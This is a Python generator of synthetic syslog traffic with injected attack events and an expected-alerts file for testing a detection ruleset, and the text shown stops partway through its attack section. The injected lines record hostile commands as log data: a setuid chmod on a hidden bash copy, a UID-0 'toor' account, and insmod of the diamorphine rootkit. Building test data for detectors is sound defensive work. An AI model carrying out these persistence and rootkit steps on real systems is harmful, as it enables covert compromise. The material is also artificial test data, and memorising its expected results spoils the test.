#!/usr/bin/env python3
"""Realistic mixed syslog traffic with attacks injected at known times.

    gen_attacks.py [--seed N] [--out DIR]
        writes DIR/stream.log (syslog lines in time order, RFC 3164 and RFC 5424)
        and DIR/expected.tsv (the alerts the shipped rules must raise, and only
        those): RULE_ID <TAB> COUNT <TAB> FIELD=VALUE[;FIELD=VALUE...]

    gen_attacks.py corpus KIND FILE
        prints a file of ../shared/corpus as syslog lines for `--replay -`
        (KIND: plain, thunderbird, apache_error, access, access_unsorted);
        nothing is written anywhere, the corpus is read in place.

The stream covers 2026-11-25 23:00 to 2026-11-26 04:00 UTC (06:00-11:00 in
Vietnam, a Thursday): 1h30 of "night" before working hours start at 07:30,
then office hours. Replay it with --year 2026 and the three sample lists of
rules/lists/ (tests/integration/test_ruleset.c does).

Background (about 49,000 lines): 25 hosts of the three agencies and the IT
Center (Linux servers, nginx/Apache portals, DNS, proxy, FTP, VPN, Cisco ASA,
IOS router and switch, Windows DC and servers via NXLog and Snare) doing their
normal work: logins and the odd typo, sudo by deployers, cron, web traffic
with Vietnamese search strings and tricky-but-benign URLs, crawlers, scanners
from the Internet knocking on one or two ports, DNS and proxy lookups of
ordinary domains. Every host sends something at least every 4 minutes.
Nothing in the background may raise an alert: each pattern stays below the
thresholds (one or two failures per source, one or two refused ports, a few
404s), which is what real traffic looks like to these rules.

Attacks: see inject(); each one records the alerts it must cause. The seed
changes the background and the jitter of the attacks, never what is expected.
"""
import argparse
import datetime as dt
import os
import random
import re
import sys

UTC = dt.timezone.utc
VN = dt.timezone(dt.timedelta(hours=7))
START = dt.datetime(2026, 11, 25, 23, 0, 0, tzinfo=UTC)
HOURS = 5
END = START + dt.timedelta(hours=HOURS)
WORK_START = dt.datetime(2026, 11, 26, 0, 30, 0, tzinfo=UTC)  # 07:30 in Vietnam

BSD, R5424 = 0, 1


class Stream:
    def __init__(self, rnd):
        self.rnd = rnd
        self.lines = []   # (time, seq, text)
        self.expected = []
        self.seq = 0
        self.silent = {}  # host -> (from, to): the background keeps quiet

    def at(self, t, host, tag, msg, pri=14, fmt=BSD, procid=None):
        """Adds one line at time t (a datetime in UTC)."""
        q = self.silent.get(host)
        if (q and q[0] <= t < q[1]) or t >= END:
            return
        if fmt == BSD:
            ts = t.strftime('%b ') + '%2d' % t.day + t.strftime(' %H:%M:%S')
            if tag is None:
                text = '<%d>%s %s %s' % (pri, ts, host, msg)
            else:
                pid = '[%d]' % procid if procid else ''
                text = '<%d>%s %s %s%s: %s' % (pri, ts, host, tag, pid, msg)
        else:
            local = t.astimezone(VN).isoformat(timespec='seconds')
            text = '<%d>1 %s %s %s %s - - %s' % (pri, local, host, tag or '-', procid or '-', msg)
        self.seq += 1
        self.lines.append((t, self.seq, text))

    def expect(self, rule, count=1, **fields):
        self.expected.append((rule, count, fields))

    def write(self, outdir):
        self.lines.sort(key=lambda x: (x[0], x[1]))
        with open(os.path.join(outdir, 'stream.log'), 'w') as f:
            for _, _, text in self.lines:
                f.write(text + '\n')
        with open(os.path.join(outdir, 'expected.tsv'), 'w') as f:
            f.write('# rule\tcount\tgroup/key fields (each alert of the rule carries them)\n')
            for rule, count, fields in self.expected:
                key = ';'.join('%s=%s' % (k, v) for k, v in fields.items())
                f.write('%s\t%d\t%s\n' % (rule, count, key))
        return len(self.lines)


def sec(s):
    return dt.timedelta(seconds=s)


def T(h, m, s=0):
    """A time of the stream, as hh:mm:ss UTC (23:xx is the 25th, the rest the 26th)."""
    day = 25 if h == 23 else 26
    return dt.datetime(2026, 11, day, h, m, s, tzinfo=UTC)


# ---- the cast ------------------------------------------------------------------

LINUX = ['bastion-hn01', 'web-sgn-t1', 'portal-hn-01', 'ticket-hn-ga', 'fids-tsn-01', 'db-hn-01',
         'toll-hn-01', 'toll-hn-02', 'dns-hn-01', 'proxy-hn-01', 'ftp-hn-01', 'vpn-hn-01',
         'fw-hn-01', 'app-dn-01', 'radar-dad-01', 'sched-hp-01', 'mon-hn-01']
CISCO = ['asa-hn-01', 'rtr-hn-01', 'sw-hn-core', 'asa-vpn-01']
WINDOWS = ['DC01', 'SRV-APP1', 'WS-042', 'SRV-FILE1']
STAFF = ['hung.nv', 'lan.pt', 'minh.dq', 'thu.nt', 'an.nv', 'binh.tt', 'cuong.lv', 'dung.pq',
         'giang.ht', 'hoa.lt', 'khanh.vd', 'linh.nt', 'nam.tq', 'phuong.lm', 'quang.vh']
ADMINS = ['sysadmin', 'adm.hung', 'netops']
DOMAINS = ['www.google.com', 'vnexpress.net', 'zalo.me', 'chat.zalo.me', 'www.facebook.com',
           'update.microsoft.com', 'dantri.com.vn', 'mt.gov.vn', 'vietnamairlines.com',
           'dsvn.vn', 'vetc.com.vn', 'github.com', 'deb.debian.org', 'security.debian.org',
           'ntp.ubuntu.com', 'login.microsoftonline.com', 'cdn.jsdelivr.net', 'tuoitre.vn']
PAGES = ['/', '/tin-tuc/lich-nghi-tet-2027', '/tin-tuc/dieu-chinh-gio-tau-se1',
         '/lich-trinh?ga-di=HN&ga-den=SG&ngay=2026-11-27', '/chuyen-bay?so-hieu=VN213',
         '/tra-cuu-phat-nguoi?bien-so=51A-12345', '/static/css/app.css?v=42',
         '/static/js/app.min.js?v=42', '/static/img/logo.png', '/api/v1/flights?date=2026-11-26',
         '/api/v1/trains?from=HN&to=DN', '/search?q=t%C3%A0u+h%E1%BB%8Fa+T%E1%BA%BFt',
         '/search?q=select+a+seat', '/search?name=O%27Brien', '/search?q=rock+%27n%27+roll',
         '/sso/login?redirect_uri=https%3A%2F%2Fportal.example.vn%2Fhome&state=xyz',
         '/api/v1/trains?id=SE1;type=ngoi-mem', '/docs/v2.1/huong-dan.html', '/lien-he',
         '/robots.txt', '/sitemap.xml', '/healthz']
BROWSERS = ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0 Safari/537.36',
            'Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1',
            'Mozilla/5.0 (Linux; Android 14; SM-A546E) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0 Mobile Safari/537.36 Zalo android/12110801',
            'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
            'Mozilla/5.0 (compatible; coccocbot-web/1.0; +http://help.coccoc.com/searchengine)']
PORTS = [22, 23, 80, 443, 445, 3389, 8080, 1433, 3306, 5900, 25, 53, 123, 161, 8443]


class Addr:
    """Unique public addresses for background sources (never reused, never
    in the documentation ranges the attacks and the sample lists use)."""

    def __init__(self, rnd):
        self.rnd = rnd
        self.used = set()

    def internet(self):
        while True:
            a = '%d.%d.%d.%d' % (self.rnd.choice([45, 91, 103, 109, 185, 193, 222]),
                                 self.rnd.randrange(1, 255), self.rnd.randrange(0, 256),
                                 self.rnd.randrange(1, 255))
            if a not in self.used:
                self.used.add(a)
                return a

    def vn_client(self):
        return '%d.%d.%d.%d' % (self.rnd.choice([14, 27, 113, 171, 116]),
                                self.rnd.randrange(160, 250), self.rnd.randrange(0, 256),
                                self.rnd.randrange(1, 255))


def office(rnd):
    return '10.20.%d.%d' % (rnd.randrange(1, 9), rnd.randrange(10, 250))


# ---- background ------------------------------------------------------------------

def every(rnd, lo, hi):
    """Times from START to END, lo..hi seconds apart."""
    t = START + sec(rnd.uniform(0, lo))
    while t < END:
        yield t
        t += sec(rnd.uniform(lo, hi))


def work(t):
    return t >= WORK_START


def background(s, rnd):
    addr = Addr(rnd)
    pid = [3000]

    def npid():
        pid[0] += rnd.randrange(1, 7)
        return pid[0]

    # every Linux host: cron, systemd, rsyslog marks (never 4 minutes without a line)
    for h in LINUX:
        for t in every(rnd, 60, 230):
            r = rnd.random()
            if r < 0.4:
                s.at(t, h, 'CRON', '(root) CMD (command -v debian-sa1 > /dev/null && debian-sa1 1 1)', 78, procid=npid())
            elif r < 0.6:
                s.at(t, h, 'systemd', 'Started sysstat-collect.service - system activity accounting tool.', 30, procid=1)
            elif r < 0.8:
                s.at(t, h, 'rsyslogd', '-- MARK --', 46)
            else:
                s.at(t, h, 'kernel', '[%d.%03d] nf_conntrack: default automatic helper assignment has been turned off for security reasons' % (rnd.randrange(1000, 99999), rnd.randrange(1000)), 4)
        s.at(START + sec(rnd.uniform(1800, 3600)), h, 'rsyslogd',
             '[origin software="rsyslogd" swVersion="8.2302.0" x-pid="%d" x-info="https://www.rsyslog.com"] rsyslogd was HUPed' % rnd.randrange(300, 900), 46)

    # bastion: staff logins, typos, Internet noise that stays below every threshold
    for t in every(rnd, 20, 90):
        user = rnd.choice(STAFF + (['sysadmin', 'adm.hung'] if work(t) else []))
        ip, p = office(rnd), npid()
        if rnd.random() < 0.08:
            s.at(t, 'bastion-hn01', 'sshd', 'Failed password for %s from %s port %d ssh2' % (user, ip, rnd.randrange(40000, 65000)), 38, procid=p)
            t += sec(rnd.uniform(3, 9))
        s.at(t, 'bastion-hn01', 'sshd', 'Accepted %s for %s from %s port %d ssh2' % (rnd.choice(['publickey', 'password']), user, ip, rnd.randrange(40000, 65000)), 38, procid=p)
        s.at(t, 'bastion-hn01', 'sshd', 'pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)' % (user, 1000 + STAFF.index(user) if user in STAFF else 1100), 86, procid=p)
        s.at(t + sec(rnd.uniform(60, 1800)), 'bastion-hn01', 'sshd', 'pam_unix(sshd:session): session closed for user %s' % user, 86, procid=p)
    for t in every(rnd, 40, 200):
        ip, p = addr.internet(), npid()
        r = rnd.random()
        if r < 0.5:
            s.at(t, 'bastion-hn01', 'sshd', 'Connection closed by %s port %d [preauth]' % (ip, rnd.randrange(1024, 65000)), 38, procid=p)
        elif r < 0.8:
            u = rnd.choice(['test', 'oracle', 'ubuntu', 'pi', 'git', 'postgres', 'user'])
            s.at(t, 'bastion-hn01', 'sshd', 'Invalid user %s from %s port %d' % (u, ip, rnd.randrange(1024, 65000)), 38, procid=p)
            s.at(t + sec(2), 'bastion-hn01', 'sshd', 'Failed password for invalid user %s from %s port %d ssh2' % (u, ip, rnd.randrange(1024, 65000)), 38, procid=p)
        else:
            s.at(t, 'bastion-hn01', 'sshd', 'Received disconnect from %s port %d:11: Bye Bye [preauth]' % (ip, rnd.randrange(1024, 65000)), 38, procid=p)

    # deployers' sudo (never a shell, never logs)
    for h in ['web-sgn-t1', 'portal-hn-01', 'ticket-hn-ga', 'app-dn-01']:
        for t in every(rnd, 600, 1500):
            cmd = rnd.choice(['/usr/bin/systemctl restart nginx', '/usr/bin/systemctl reload php8.2-fpm',
                              '/usr/bin/tail -n 200 /var/log/nginx/error.log', '/usr/bin/apt-get update',
                              '/usr/bin/journalctl -u nginx --since today', '/usr/bin/chmod 0755 /srv/app/run.sh'])
            s.at(t, h, 'sudo', '  deploy : TTY=pts/%d ; PWD=/home/deploy ; USER=root ; COMMAND=%s' % (rnd.randrange(4), cmd), 85, procid=npid())
            s.at(t, h, 'sudo', 'pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1001)', 85, procid=npid())

    # web portals: nginx (portal-hn-01, ticket-hn-ga), Apache (web-sgn-t1)
    clients = [addr.vn_client() for _ in range(400)] + [office(rnd) for _ in range(50)]
    for h, tag in [('portal-hn-01', 'nginx'), ('ticket-hn-ga', 'nginx'), ('web-sgn-t1', 'apache2')]:
        for t in every(rnd, 1, 5):
            c = rnd.choice(clients)
            page = rnd.choice(PAGES)
            status, size = (200, rnd.randrange(300, 60000))
            if rnd.random() < 0.03:
                page, status, size = rnd.choice(['/favicon.ico', '/apple-touch-icon.png', '/tin-tuc/bai-cu-da-xoa']), 404, 153
            method = 'POST' if page == '/lien-he' and rnd.random() < 0.3 else 'GET'
            local = t.astimezone(VN).strftime('%d/%b/%Y:%H:%M:%S +0700')
            s.at(t, h, tag, '%s - - [%s] "%s %s HTTP/1.1" %d %d "https://%s.example.vn/" "%s"' % (c, local, method, page, status, size, h, rnd.choice(BROWSERS)), 190)
        for t in every(rnd, 120, 400):
            c = rnd.choice(clients)
            local = t.astimezone(VN).strftime('%Y/%m/%d %H:%M:%S')
            if tag == 'nginx':
                s.at(t, h, tag, '%s [error] 812#812: *%d open() "/var/www/html/favicon.ico" failed (2: No such file or directory), client: %s, server: %s.example.vn, request: "GET /favicon.ico HTTP/1.1", host: "%s.example.vn"' % (local, rnd.randrange(1, 99999), c, h, h), 131)
            else:
                s.at(t, h, 'httpd', '[%s] [php:warn] [pid %d] [client %s:%d] PHP Warning:  Undefined array key "page" in /var/www/html/index.php on line 12' % (t.astimezone(VN).strftime('%a %b %d %H:%M:%S.%f %Y'), npid(), c, rnd.randrange(1024, 65000)), 132)
    # monitoring from loopback reads server-status (not a probe)
    for t in every(rnd, 60, 60):
        local = t.astimezone(VN).strftime('%d/%b/%Y:%H:%M:%S +0700')
        s.at(t, 'web-sgn-t1', 'apache2', '127.0.0.1 - - [%s] "GET /server-status?auto HTTP/1.1" 200 912 "-" "Zabbix"' % local, 190)

    # DNS and proxy lookups of ordinary domains
    for t in every(rnd, 2, 10):
        d, c = rnd.choice(DOMAINS), office(rnd)
        p = npid()
        s.at(t, 'dns-hn-01', 'dnsmasq', 'query[A] %s from %s' % (d, c), 30, procid=811)
        s.at(t, 'dns-hn-01', 'dnsmasq', 'forwarded %s to 1.1.1.1' % d, 30, procid=811)
        s.at(t, 'dns-hn-01', 'dnsmasq', 'reply %s is 142.250.%d.%d' % (d, rnd.randrange(256), rnd.randrange(1, 255)), 30, procid=811)
        if rnd.random() < 0.5:
            s.at(t + sec(0.2), 'proxy-hn-01', 'squid', '%d.%03d %6d %s TCP_TUNNEL/200 %d CONNECT %s:443 - HIER_DIRECT/142.250.%d.%d -' % (int(t.timestamp()), rnd.randrange(1000), rnd.randrange(50, 90000), c, rnd.randrange(500, 900000), d, rnd.randrange(256), rnd.randrange(1, 255)), 30, procid=p)

    # FTP: staff uploads, a rare mistyped password
    for t in every(rnd, 60, 300):
        c, u = office(rnd), rnd.choice(STAFF)
        if rnd.random() < 0.1:
            s.at(t, 'ftp-hn-01', 'vsftpd', 'pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=%s rhost=%s  user=%s' % (u, c, u), 86, procid=npid())
        s.at(t + sec(5), 'ftp-hn-01', 'vsftpd', '[%s] OK LOGIN: Client "::ffff:%s"' % (u, c), 30, procid=npid())

    # firewall: the Internet knocking on one or two ports per source
    for t in every(rnd, 3, 15):
        ip = addr.internet()
        for port in rnd.sample(PORTS, rnd.choice([1, 1, 1, 2])):
            for _ in range(rnd.choice([1, 1, 2, 3])):
                s.at(t, 'fw-hn-01', 'kernel', '[%d.%03d] [UFW BLOCK] IN=eth0 OUT= MAC=52:54:00:12:34:56:52:54:00:65:43:21:08:00 SRC=%s DST=10.10.0.%d LEN=44 TOS=0x00 PREC=0x00 TTL=%d ID=%d PROTO=TCP SPT=%d DPT=%d WINDOW=1024 RES=0x00 SYN URGP=0' % (int(t.timestamp()) % 100000, rnd.randrange(1000), ip, rnd.randrange(2, 20), rnd.randrange(40, 250), rnd.randrange(65535), rnd.randrange(1024, 65000), port), 4)
                t += sec(rnd.uniform(0.1, 3))
    for t in every(rnd, 5, 20):
        ip = addr.internet()
        s.at(t, 'asa-hn-01', '%ASA-4-106023', 'Deny tcp src outside:%s/%d dst inside:10.10.1.%d/%d by access-group "outside_in" [0x0, 0x0]' % (ip, rnd.randrange(1024, 65000), rnd.randrange(2, 50), rnd.choice(PORTS)), 164)
    for t in every(rnd, 2, 8):
        c = office(rnd)
        cid = rnd.randrange(100000, 999999)
        s.at(t, 'asa-hn-01', '%ASA-6-302013', 'Built outbound TCP connection %d for outside:142.250.%d.%d/443 (142.250.%d.%d/443) to inside:%s/%d (%s/%d)' % (cid, 1, 2, 1, 2, c, 50000 + cid % 9999, c, 50000 + cid % 9999), 166)
    for t in every(rnd, 10, 40):
        s.at(t, 'rtr-hn-01', None, '%d: *%s.%03d UTC: %%SEC-6-IPACCESSLOGP: list 101 denied tcp %s(%d) -> 10.30.0.%d(%d), 1 packet' % (rnd.randrange(1, 99999), t.strftime('%b %d %H:%M:%S'), rnd.randrange(1000), addr.internet(), rnd.randrange(1024, 65000), rnd.randrange(1, 60), rnd.choice(PORTS)), 190)
    for h in ['rtr-hn-01', 'sw-hn-core']:
        for t in every(rnd, 90, 230):
            if work(t) and rnd.random() < 0.3:
                s.at(t, h, None, '%d: *%s.%03d UTC: %%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 10.99.0.10] [localport: 22] at %s UTC %s' % (rnd.randrange(1, 99999), t.strftime('%b %d %H:%M:%S'), rnd.randrange(1000), t.strftime('%H:%M:%S'), t.strftime('%a %b %d %Y')), 189)
            else:
                s.at(t, h, None, '%d: *%s.%03d UTC: %%LINEPROTO-5-UPDOWN: Line protocol on Interface GigabitEthernet1/0/%d, changed state to %s' % (rnd.randrange(1, 99999), t.strftime('%b %d %H:%M:%S'), rnd.randrange(1000), rnd.randrange(1, 48), rnd.choice(['up', 'down'])), 189)

    # VPN: staff connect; a rare single failure from an address never seen again
    for t in every(rnd, 30, 120):
        u, ip = rnd.choice(STAFF), addr.vn_client()
        if rnd.random() < 0.1:
            s.at(t, 'asa-vpn-01', '%ASA-6-113005', 'AAA user authentication Rejected : reason = AAA failure : server = 10.1.1.5 : user = %s : user IP = %s' % (u, ip), 166)
            t += sec(rnd.uniform(5, 20))
        s.at(t, 'asa-vpn-01', '%ASA-6-113004', 'AAA user authentication Successful : server = 10.1.1.5 : user = %s' % u, 166)
        s.at(t, 'asa-vpn-01', '%ASA-6-722051', 'Group <GP-STAFF> User <%s> IP <%s> IPv4 Address <10.50.0.%d> IPv6 address <::> assigned to session' % (u, ip, rnd.randrange(2, 250)), 166)
    for t in every(rnd, 60, 200):
        ip = addr.vn_client()
        if rnd.random() < 0.15:
            s.at(t, 'vpn-hn-01', 'openvpn', '%s:%d TLS Auth Error: Auth Username/Password verification failed for peer' % (addr.internet(), rnd.randrange(1024, 65000)), 29, procid=1201)
        else:
            s.at(t, 'vpn-hn-01', 'openvpn', '%s/%s:%d MULTI_sva: pool returned IPv4=10.8.0.%d, IPv6=(Not enabled)' % (rnd.choice(STAFF), ip, rnd.randrange(1024, 65000), rnd.randrange(2, 250)), 29, procid=1201)

    # unit applications
    for h, tag, fmt in [('ticket-hn-ga', 'ticketd', 'sale %d ok, train SE%d'), ('fids-tsn-01', 'fids', 'board refreshed (%d flights, gate %d)'),
                        ('toll-hn-01', 'tollgate', 'lane 3 vehicle %d class %d paid'), ('toll-hn-02', 'tollgate', 'lane 1 vehicle %d class %d paid'),
                        ('radar-dad-01', 'radard', 'track update %d targets, sector %d'), ('db-hn-01', 'postgres', 'LOG:  checkpoint complete: wrote %d buffers (%d.0%%)')]:
        for t in every(rnd, 15, 90):
            s.at(t, h, tag, fmt % (rnd.randrange(1000, 99999), rnd.randrange(1, 20)), 134, procid=npid())

    # Windows: NXLog (BSD syslog, tag = event source) and Snare (SRV-FILE1)
    for t in every(rnd, 3, 12):
        u, c = rnd.choice(STAFF), office(rnd)
        h = rnd.choice(['DC01', 'SRV-APP1'])
        s.at(t, h, 'Microsoft-Windows-Security-Auditing', 'An account was successfully logged on.  Subject:  Security ID: S-1-0-0  Account Name: -  Account Domain: -  Logon ID: 0x0  Logon Information:  Logon Type: 3  Restricted Admin Mode: -  Virtual Account: No  Elevated Token: No  Impersonation Level: Impersonation  New Logon:  Security ID: S-1-5-21-1-2-3-%d  Account Name: %s  Account Domain: BGTVT  Logon ID: 0x%X  Network Information:  Workstation Name: WS-%03d  Source Network Address: %s  Source Port: %d  Detailed Authentication Information:  Logon Process: Kerberos  Authentication Package: Kerberos' % (1100 + STAFF.index(u), u, rnd.randrange(1 << 24), rnd.randrange(1, 300), c, rnd.randrange(49152, 65535)), 13, procid=636)
    for t in every(rnd, 30, 150):
        u, c = rnd.choice(STAFF), office(rnd)
        s.at(t, 'DC01', 'Microsoft-Windows-Security-Auditing', 'An account failed to log on.  Subject:  Security ID: S-1-0-0  Account Name: -  Account Domain: -  Logon ID: 0x0  Logon Type: 3  Account For Which Logon Failed:  Security ID: S-1-0-0  Account Name: %s  Account Domain: BGTVT  Failure Information:  Failure Reason: Unknown user name or bad password.  Status: 0xC000006D  Sub Status: 0xC000006A  Network Information:  Workstation Name: WS-%03d  Source Network Address: %s  Source Port: 0' % (u, rnd.randrange(1, 300), c), 13, procid=636)
    for t in every(rnd, 60, 200):
        s.at(t, 'WS-042', 'Microsoft-Windows-Security-Auditing', 'A logon was attempted using explicit credentials.  Subject:  Security ID: S-1-5-18  Account Name: WS-042$  Account Domain: BGTVT  Logon ID: 0x3E7  Account Whose Credentials Were Used:  Account Name: thu.nt  Account Domain: BGTVT  Target Server:  Target Server Name: localhost  Additional Information: localhost  Process Information:  Process ID: 0x2bc  Process Name: C:\\Windows\\System32\\svchost.exe', 13, procid=636)
    for t in every(rnd, 60, 200):
        svc = rnd.choice(['Windows Update', 'Background Intelligent Transfer Service', 'Windows Modules Installer', 'Zabbix Agent 2'])
        s.at(t, 'SRV-APP1', 'Service Control Manager', 'The %s service entered the %s state.' % (svc, rnd.choice(['running', 'stopped'])), 14, procid=640)
    for t in every(rnd, 20, 90):
        u, c = rnd.choice(STAFF), office(rnd)
        local = t.astimezone(VN).strftime('%a %b %d %H:%M:%S %Y')
        n = rnd.randrange(1000, 999999)
        s.at(t, 'SRV-FILE1', None, 'MSWinEventLog\t1\tSecurity\t%d\t%s\t5140\tMicrosoft-Windows-Security-Auditing\tBGTVT\\%s\tN/A\tSuccess Audit\tSRV-FILE1.bgtvt.local\tFile Share\t\tA network share object was accessed.    Subject:   Security ID:  S-1-5-21-1-2-3-%d   Account Name:  %s   Account Domain:  BGTVT    Network Information:   Object Type:  File   Source Address:  %s   Source Port:  %d    Share Information:   Share Name:  \\\\*\\PhongKeToan\t%d' % (n, local, u, 1100 + STAFF.index(u), u, c, rnd.randrange(49152, 65535), n), 13)
    # working-hours RDP and admin logons (no holiday alert)
    for t in every(rnd, 300, 900):
        if work(t):
            s.at(t, 'SRV-APP1', 'Microsoft-Windows-Security-Auditing', 'An account was successfully logged on.  Subject:  Security ID: S-1-5-18  Account Name: SRV-APP1$  Logon Information:  Logon Type: 10  Restricted Admin Mode: No  New Logon:  Security ID: S-1-5-21-1-2-3-1105  Account Name: adm.hung  Account Domain: BGTVT  Network Information:  Workstation Name: WS-042  Source Network Address: 10.20.4.42  Source Port: 0', 13, procid=636)


# ---- attacks ------------------------------------------------------------------------

def inject(s, rnd):
    j = lambda: sec(rnd.uniform(0, 20))  # jitter of an attack's start
    p = [9000]

    def npid():
        p[0] += 1
        return p[0]

    # Holiday watch (before 07:30 in Vietnam)
    t = T(23, 5) + j()
    s.at(t, 'bastion-hn01', 'sshd', 'Accepted publickey for sysadmin from 10.20.4.7 port 51234 ssh2', 38, procid=npid())
    s.expect('holiday.admin_ssh_login', user='sysadmin', src_ip='10.20.4.7')
    t = T(23, 12) + j()
    s.at(t, 'SRV-APP1', 'Microsoft-Windows-Security-Auditing', 'An account was successfully logged on.  Subject:  Security ID: S-1-5-18  Account Name: SRV-APP1$  Logon Information:  Logon Type: 10  Restricted Admin Mode: No  New Logon:  Security ID: S-1-5-21-1-2-3-1105  Account Name: adm.hung  Account Domain: BGTVT  Network Information:  Workstation Name: WS-042  Source Network Address: 10.20.4.42  Source Port: 0', 13, R5424, 636)
    s.expect('holiday.rdp_logon', user='adm.hung', src_ip='10.20.4.42')
    t = T(23, 20) + j()
    s.at(t, 'sw-hn-core', None, '4711: *%s.120 UTC: %%SEC_LOGIN-5-LOGIN_SUCCESS: Login Success [user: netops] [Source: 10.99.0.10] [localport: 22] at %s UTC %s' % (t.strftime('%b %d %H:%M:%S'), t.strftime('%H:%M:%S'), t.strftime('%a %b %d %Y')), 189)
    s.expect('holiday.network_device_login', user='netops', src_ip='10.99.0.10')

    # SSH brute force, then success as root from the same source (at night)
    t = T(23, 40) + j()
    for i in range(8):
        s.at(t + sec(i * 2.5), 'bastion-hn01', 'sshd', 'Failed password for root from 203.0.113.10 port %d ssh2' % (41000 + i), 38, procid=npid())
    s.expect('ssh.bruteforce', src_ip='203.0.113.10')
    t += sec(300)
    s.at(t, 'bastion-hn01', 'sshd', 'Accepted password for root from 203.0.113.10 port 41999 ssh2', 38, procid=npid())
    s.expect('ssh.success_after_bruteforce', src_ip='203.0.113.10')
    s.expect('ssh.root_login', src_ip='203.0.113.10')
    s.expect('holiday.admin_ssh_login', user='root', src_ip='203.0.113.10')

    # SSH password spraying: six user names, 30 s apart (never 6 in a minute)
    t = T(0, 50) + j()
    for i, u in enumerate(['admin', 'oracle', 'postgres', 'ubuntu', 'test', 'deploy']):
        s.at(t + sec(30 * i), 'bastion-hn01', 'sshd', 'Invalid user %s from 198.51.100.40 port %d' % (u, 50000 + i), 38, procid=npid())
        s.at(t + sec(30 * i + 2), 'bastion-hn01', 'sshd', 'Failed password for invalid user %s from 198.51.100.40 port %d ssh2' % (u, 50000 + i), 38, procid=npid())
    s.expect('ssh.password_spray', src_ip='198.51.100.40')

    # MaxAuthTries 3 exhausted on one connection
    t = T(1, 0) + j()
    q = npid()
    for i in range(3):
        s.at(t + sec(i * 3), 'bastion-hn01', 'sshd', 'Failed password for admin from 203.0.113.11 port 4444 ssh2', 38, procid=q)
    s.at(t + sec(9), 'bastion-hn01', 'sshd', 'error: maximum authentication attempts exceeded for admin from 203.0.113.11 port 4444 ssh2 [preauth]', 38, procid=q)
    s.at(t + sec(9), 'bastion-hn01', 'sshd', 'Disconnecting authenticating user admin 203.0.113.11 port 4444: Too many authentication failures [preauth]', 38, procid=q)
    s.expect('ssh.too_many_auth_failures', host='bastion-hn01', user='admin', src_ip='203.0.113.11')

    # banner grabbing
    t = T(1, 5) + j()
    for i in range(3):
        s.at(t + sec(i * 100), 'bastion-hn01', 'sshd', 'Did not receive identification string from 198.51.100.41 port %d' % (61000 + i), 38, procid=npid())
    s.expect('ssh.preauth_scan', src_ip='198.51.100.41')

    # FTP brute force seen by PAM
    t = T(1, 10) + j()
    for i in range(7):
        s.at(t + sec(i * 4), 'ftp-hn-01', 'vsftpd', 'pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=admin rhost=203.0.113.12  user=admin', 86, procid=npid())
    s.expect('auth.remote_bruteforce', rhost='203.0.113.12')

    # sudo and su misuse on web-sgn-t1
    t = T(1, 20) + j()
    s.at(t, 'web-sgn-t1', 'sudo', 'operator : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/home/operator ; USER=root ; COMMAND=/bin/bash', 85, procid=npid())
    s.expect('sudo.auth_failed', user='operator')
    s.at(t + sec(40), 'web-sgn-t1', 'sudo', 'www-data : user NOT in sudoers ; TTY=unknown ; PWD=/var/www/html ; USER=root ; COMMAND=/usr/bin/id', 85, procid=npid())
    s.expect('sudo.not_allowed', user='www-data')
    s.at(t + sec(80), 'web-sgn-t1', 'sudo', '  hung.nv : TTY=pts/2 ; PWD=/home/hung.nv ; USER=root ; COMMAND=/bin/bash', 85, procid=npid())
    s.expect('sudo.root_shell', user='hung.nv')
    s.at(t + sec(120), 'web-sgn-t1', 'sudo', '  deploy : TTY=pts/3 ; PWD=/tmp ; USER=root ; COMMAND=/usr/bin/chmod u+s /tmp/.x/bash', 85, procid=npid())
    s.expect('sudo.privilege_persistence', user='deploy')
    s.at(t + sec(160), 'web-sgn-t1', 'su', 'FAILED SU (to root) operator on pts/1', 86, procid=npid())
    s.expect('su.failed', user='operator', tty='pts/1')

    # a host goes quiet: nothing from toll-hn-02 after 01:30
    s.silent['toll-hn-02'] = (T(1, 30), END)
    s.expect('host.silent', host='toll-hn-02')

    # accounts on db-hn-01
    t = T(1, 40) + j()
    s.at(t, 'db-hn-01', 'useradd', 'new group: name=backup2, GID=1002', 86, procid=npid())
    s.at(t, 'db-hn-01', 'useradd', 'new user: name=backup2, UID=1002, GID=1002, home=/home/backup2, shell=/bin/bash, from=/dev/pts/0', 86, procid=npid())
    s.expect('account.group_created', group='backup2')
    s.expect('account.user_created', user='backup2')
    s.at(t + sec(20), 'db-hn-01', 'usermod', "add 'backup2' to group 'sudo'", 86, procid=npid())
    s.at(t + sec(20), 'db-hn-01', 'usermod', "add 'backup2' to shadow group 'sudo'", 86, procid=npid())
    s.expect('account.admin_group_add', user='backup2', group='sudo')
    s.at(t + sec(40), 'db-hn-01', 'passwd', 'pam_unix(passwd:chauthtok): password changed for root', 86, procid=npid())
    s.expect('account.privileged_password_change', user='root')
    s.at(t + sec(60), 'db-hn-01', 'useradd', 'new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0', 86, procid=npid())
    s.expect('account.uid0_created', user='toor')
    s.at(t + sec(80), 'db-hn-01', 'groupadd', 'group added to /etc/group: name=ops, GID=1003', 86, procid=npid())
    s.at(t + sec(80), 'db-hn-01', 'groupadd', 'new group: name=ops, GID=1003', 86, procid=npid())
    s.expect('account.group_created', group='ops')

    # rootkit and sniffer on db-hn-01 (kernel and auditd)
    t = T(1, 50) + j()
    s.at(t, 'db-hn-01', 'audispd', 'type=EXECVE msg=audit(%d.120:5121): argc=2 a0="insmod" a1="/tmp/.k/diamorphine.ko"' % int(t.timestamp()), 86)
    s.expect('audit.kernel_module_tool', module='/tmp/.k/diamorphine.ko')
    s.at(t + sec(1), 'db-hn-01', 'kernel', '[88123.551022] diamorphine: module verification failed: signature and/or required key missing - tainting kernel', 4)
    s.expect('audit.unsigned_kernel_module', module='diamorphine')
